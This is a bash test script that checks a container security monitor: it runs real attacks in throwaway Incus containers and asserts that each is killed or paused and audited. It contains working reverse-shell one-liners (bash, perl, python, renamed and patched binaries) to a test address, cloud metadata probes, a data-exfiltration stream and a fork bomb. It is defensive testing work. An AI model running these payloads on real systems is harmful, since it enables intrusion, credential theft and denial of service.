#!/bin/bash
# Real attacks inside containers, each guarded by a supervisor started the
# way the launcher starts it: reverse shells (bash /dev/tcp, perl, python
# with a pty, and copies of bash and python under other names) to a listener
# in a test netns, the metadata endpoint (curl and bash), and a fork bomb
# under max_processes.  The container must be down within 2 s of a reverse
# shell, and the audit log must hold the finding.
# Usage: test_monitor_attacks.sh PATH/TO/coi PATH/TO/test_monitor_spawn  (TAP)
# MON_ONLY="NAME..." runs only the named cases.
set -u
# shellcheck source-path=SCRIPTDIR source=test_monitor_lib.sh
. "$(dirname "$(realpath "$0")")/test_monitor_lib.sh"
mon_start "$@"
mon_netns || { echo "1..0 # SKIP cannot create the test network"; exit 0; }
mon_listen 4444
# A port no rule finds suspicious: only what the shell is can give it away.
mon_listen 443
mon_metadata
mon_sink 9000
mon_make_tools || { echo "Bail out! cannot prepare the tools container"; exit 1; }

# only NAME: whether the case NAME is to run (all unless MON_ONLY lists some).
only () { case " ${MON_ONLY:-$1} " in *" $1 "*) return 0 ;; esac; return 1; }

# attack NAME LIMIT_MS RULE COMMAND...: run COMMAND in a fresh guarded
# ephemeral container; the container must be down within LIMIT_MS and the
# audit log must hold a critical RULE finding with action "killed".
attack ()
{
  local name=$1 limit=$2 rule=$3; shift 3
  only "$name" || return
  local c=${MON_PREFIX}${name}-$$
  mon_container "$c" || { tap_not_ok "$name: container" "cannot start $c"; return; }
  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
  local sup
  sup=$(mon_supervise "$MON_RUN/$c.spec.json") || { tap_not_ok "$name: supervisor" "spawn failed"; return; }
  local t0 ms init stopped
  init=$(mon_init_pid "$c")
  # Without the init's pid, "killed" below would be seen at once.
  [ "${init:-0}" -gt 0 ] 2>/dev/null || { tap_not_ok "$name: container's init pid" "got: $init"; return; }
  t0=$(mon_ms)
  incus exec "$c" -- "$@" >/dev/null 2>&1 &
  local ex=$!
  # Killed: the container's init (and with it every process) is gone.
  mon_wait_dead "$init" 10000 >/dev/null
  ms=$(( $(mon_ms) - t0 ))
  mon_wait_down "$c" 10000 >/dev/null
  stopped=$(( $(mon_ms) - t0 ))
  mon_log "$name: processes killed ${ms} ms after the attack started, Incus reports it stopped at ${stopped} ms"
  if [ "$ms" -le "$limit" ]; then tap_ok "$name: container killed within $limit ms (${ms} ms)"
  else tap_not_ok "$name: container killed within $limit ms" "took ${ms} ms"; fi
  kill "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
  local log
  log=$(mon_audit "$c")
  like "$name: audit has the critical $rule finding" \
    "$(echo "$log" | jq -c "select(.type==\"threat\" and .level==\"critical\" and .rule==\"$rule\") | .action" 2>/dev/null | head -1)" \
    '"killed"'
  like "$name: audit records the session end" "$(echo "$log" | jq -r 'select(.event=="stop") | .details.reason' 2>/dev/null)" killed
  # Ephemeral: the supervisor deletes the container and exits.
  for _ in $(seq 1 50); do kill -0 "$sup" 2>/dev/null || break; sleep 0.1; done
  if kill -0 "$sup" 2>/dev/null; then tap_not_ok "$name: supervisor exits" "pid $sup still alive"; else tap_ok "$name: supervisor exits"; fi
  is "$name: ephemeral container deleted" "$(incus list "^$c\$" -c n --format csv)" ""
  echo "$log" | jq -c 'select(.type=="threat") | {level,rule,title,action,detected_at}' 2>/dev/null | sed 's/^/#   /'
}

attack bash 2000 reverse-shell bash -c 'bash -i >& /dev/tcp/198.51.100.144/4444 0>&1'

# shellcheck disable=SC2016 # the single-quoted program is perl's, its $ too
attack perl 2000 reverse-shell perl -e 'use Socket;$i="198.51.100.144";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

attack python-pty 2000 reverse-shell python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.144",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'

# The same shell, started from a script file: no telling command line at all.
attack python-file 2000 reverse-shell sh -c 'printf "%s\n" "import socket,subprocess,os" "s=socket.socket()" "s.connect((\"198.51.100.144\",4444))" "[os.dup2(s.fileno(),f) for f in (0,1,2)]" "subprocess.call([\"/bin/sh\",\"-i\"])" > /tmp/job.py; exec python3 /tmp/job.py'

# Renamed copies of a shell and an interpreter: their names say nothing.
attack renamed-bash 2000 reverse-shell bash -c 'cp /bin/bash /tmp/kworker; /tmp/kworker -i </dev/tcp/198.51.100.144/443'
attack renamed-python 2000 reverse-shell sh -c 'cp /usr/bin/python3 /tmp/kthreadd; printf "%s\n" "import socket,os,code" "s=socket.create_connection((\"198.51.100.144\",443))" "[os.dup2(s.fileno(),f) for f in (0,1,2)]" "code.interact()" > /tmp/job; exec /tmp/kthreadd /tmp/job'
# identity NAME WANT: the finding of case NAME names the program it is the same as.
identity ()
{
  only "$1" || return
  like "$1: the finding names the program it is a copy of" \
    "$(mon_audit "${MON_PREFIX}$1-$$" | jq -r 'select(.type=="threat" and .rule=="reverse-shell") | .evidence.same_program_as' | head -1)" "$2"
}
identity renamed-bash /usr/bin/bash
identity renamed-python /usr/bin/python3

attack metadata-curl 2000 metadata curl -s -m 3 http://169.254.169.254/latest/meta-data/
# No network client on the command line: the connection itself (conntrack) tells.
attack metadata-script 2000 metadata sh -c 'printf "%s\n" "import urllib.request" "print(urllib.request.urlopen(\"http://169.254.169.254/latest/\").read())" > /tmp/m.py; exec python3 /tmp/m.py'
attack metadata-bash 2000 metadata bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'

# --- a patched copy of bash: no known identity, only what it does ----------
# One byte of its build-id changed: not the same program as any of the
# container's.  Its stdin, stdout and stderr on one connection out: a high
# finding, the container paused.
c=${MON_PREFIX}patched-$$
if ! only patched-bash; then
  :
elif mon_container "$c"; then
  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
  incus exec "$c" -- python3 -c '
d = bytearray(open("/bin/bash", "rb").read())
i = d.find(b"\x04\x00\x00\x00\x14\x00\x00\x00\x03\x00\x00\x00GNU\x00")
assert i > 0, "no build-id note"
d[i + 16] ^= 0xff
open("/tmp/kworker", "wb").write(d)' && incus exec "$c" -- chmod 755 /tmp/kworker
  is "patched-bash: a copy with another build-id" "$?" 0
  incus exec "$c" -- bash -c '/tmp/kworker -i </dev/tcp/198.51.100.144/443 >&0 2>&0' >/dev/null 2>&1 &
  ex=$!
  for _ in $(seq 1 50); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
  is "patched-bash: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
  like "patched-bash: audit has the high network-stdio finding" \
    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="network-stdio") | [.level,.action,.evidence.process.comm]' | head -1)" \
    '["high","paused","kworker"]'
  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,title,action}' | sed 's/^/#   /'
  kill -9 "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
  incus delete -f "$c" >/dev/null 2>&1
else
  tap_not_ok "patched-bash: container" "cannot start $c"
fi

# --- bulk egress: a high finding pauses the container ---------------------
c=${MON_PREFIX}egress-$$
if ! only egress; then
  :
elif mon_container "$c"; then
  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
  # 2 GB to a host outside: over the 100 MB-per-interval egress threshold.
  incus exec "$c" -- sh -c 'head -c 2000000000 /dev/zero | python3 -c "import socket,sys; s=socket.create_connection((\"198.51.100.144\",9000)); [s.sendall(b) for b in iter(lambda: sys.stdin.buffer.read(1<<20), b\"\")]"' >/dev/null 2>&1 &
  ex=$!
  for _ in $(seq 1 150); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
  is "egress: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
  like "egress: audit has the high egress finding" \
    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="egress") | [.level,.action]' | head -1)" '["high","paused"]'
  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,evidence,action}' | sed 's/^/#   /'
  # The exec client would forward a TERM to the frozen process and wait.
  kill -9 "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
  incus delete -f "$c" >/dev/null 2>&1
else
  tap_not_ok "egress: container" "cannot start $c"
fi

# --- fork bomb under max_processes -------------------------------------------
c=${MON_PREFIX}bomb-$$
if ! only fork-bomb; then
  :
elif mon_container "$c" -c limits.processes=100; then
  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
  t0=$(mon_ms)
  incus exec "$c" -- bash -c ':(){ :|:& };:' >/dev/null 2>&1 &
  ex=$!
  # The host stays responsive: the slowest of a few small host commands.
  worst=0
  for _ in $(seq 1 10); do
    s=$(mon_ms); ls / >/dev/null; cat /proc/loadavg >/dev/null; e=$(( $(mon_ms) - s ))
    [ "$e" -gt "$worst" ] && worst=$e
    sleep 0.2
  done
  ms=$(mon_wait_down "$c" 15000); rc=$?
  ms=$(( $(mon_ms) - t0 ))
  mon_log "fork bomb: container stopped ${ms} ms after start; slowest host command ${worst} ms"
  is "fork bomb: container stopped" "$rc" 0
  if [ "$worst" -lt 500 ]; then tap_ok "fork bomb: host responsive (slowest command ${worst} ms)"
  else tap_not_ok "fork bomb: host responsive" "a host command took ${worst} ms"; fi
  like "fork bomb: audit has the critical fork-bomb finding" \
    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="fork-bomb") | [.level,.action]' | head -1)" '["critical","killed"]'
  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,evidence,action}' | sed 's/^/#   /'
  kill "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
else
  tap_not_ok "fork bomb: container" "cannot start $c"
fi

finish
